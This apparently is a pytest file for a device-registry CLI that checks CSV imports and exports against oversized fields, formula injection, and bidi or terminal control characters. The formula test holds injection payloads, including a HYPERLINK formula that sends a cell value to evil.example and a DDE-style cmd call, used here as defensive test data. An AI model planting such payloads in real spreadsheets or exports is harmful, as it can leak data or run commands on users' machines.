"""Hostile text through the installer CLI: formulas in CSV cells, a 1 MB field, bidi and control characters."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.device_registry.conftest import Cli

pytestmark = pytest.mark.services

HEADER = "id,kind,profile,transport,host,unit,lat,lon,site,landmark,notes\n"


def row(device_id: str, *, site: str = "Baiyun", landmark: str = "", notes: str = "", unit: int = 0) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        [device_id, "lamp_controller", "sw-lamp-controller", "modbus-tcp", "10.0.0.1", unit or device_id[-1], "23.1",
         "113.2", site, landmark, notes])
    return out.getvalue()


def test_a_one_megabyte_field_refuses_its_row_only(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "devices.csv"
    path.write_text(HEADER + row("LP-1") + row("LP-2", notes="x" * 1_000_000) + row("LP-3"))
    code, out, err = cli("device", "import", str(path))
    assert code == 2
    assert f"{path}: line 3: notes: field too long (1,000,000 characters, at most 10,000)" in err
    code, out, err = cli("device", "import", str(path), "--skip-invalid")
    assert code == 0, err
    assert "imported 2 new" in out and "1 bad row(s) skipped" in out
    ids = [d["id"] for d in json.loads(cli("device", "list", "--format", "json")[1])]
    assert ids == ["LP-1", "LP-3"]


def test_csv_output_neutralises_formulas_and_keeps_numbers(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "devices.csv"
    formulas = {"LP-1": '=HYPERLINK("http://evil.example/?"&A1,"click")', "LP-2": "+SUM(1,2)", "LP-3": "@cmd",
                "LP-4": "-2+3", "LP-5": "-cmd|' /C calc'!A0"}
    path.write_text(HEADER + "".join(row(i, landmark=text) for i, text in formulas.items()))
    assert cli("device", "import", str(path))[0] == 0
    for command in (["device", "list", "--format", "csv"], ["device", "export", "--format", "csv"]):
        code, out, _ = cli(*command)
        assert code == 0
        cells = {r["id"]: r["landmark"] for r in csv.DictReader(io.StringIO(out))}
        assert cells == {i: "'" + text for i, text in formulas.items()}
        lat = {r["id"]: r["lat"] for r in csv.DictReader(io.StringIO(out))}
        assert set(lat.values()) == {"23.1"}
    # The export re-imports as it was: the quote is taken off again.
    export = tmp_path / "export.csv"
    assert cli("device", "export", "--format", "csv", "-o", str(export))[0] == 0
    assert cli("device", "import", str(export))[1].strip().endswith("0 new, 0 updated, 5 unchanged, 0 bad row(s) "
                                                                    "skipped")


def test_bidi_and_control_characters_are_escaped_in_listings_and_refused_in_ids(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "devices.csv"
    path.write_text(HEADER + row("LP-1", site="Bai\u202eyun", landmark="pole\x1b[2J 7"))
    assert cli("device", "import", str(path))[0] == 0
    out = cli("device", "list")[1]
    assert "\u202e" not in out and "\x1b" not in out
    assert "Bai\\u202eyun" in out
    out = cli("device", "show", "LP-1")[1]
    assert "\u202e" not in out and "\x1b" not in out
    path.write_text(HEADER + row("LP-2\u202e", unit=2) + row("LP\x07-3", unit=3))
    code, _, err = cli("device", "import", str(path), "--skip-invalid")
    assert code == 0
    assert err.count("id:") == 2
    assert "\u202e" not in err
